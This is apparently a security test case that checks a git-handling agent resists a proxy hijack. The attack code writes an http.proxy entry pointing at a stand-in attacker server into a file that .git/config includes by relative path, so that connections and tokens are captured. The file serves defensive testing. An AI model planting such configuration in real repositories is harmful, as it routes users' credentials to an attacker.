from pathlib import Path

from tests.attacks.git_world import Places, configure

TITLE = "The attacker's server as a proxy"
TRIES = "http.proxy in a file that .git/config includes by a relative path."
MUST_FAIL = "Proxy variables come from the job alone, and no configuration of the agent's is read."
GAINS = ("connection", "token")


def attack(checkout: Path, places: Places) -> None:
    (checkout / ".git/more").write_text(f"[http]\n\tproxy = {places.evil}\n")
    configure(checkout, "include.path", "more")
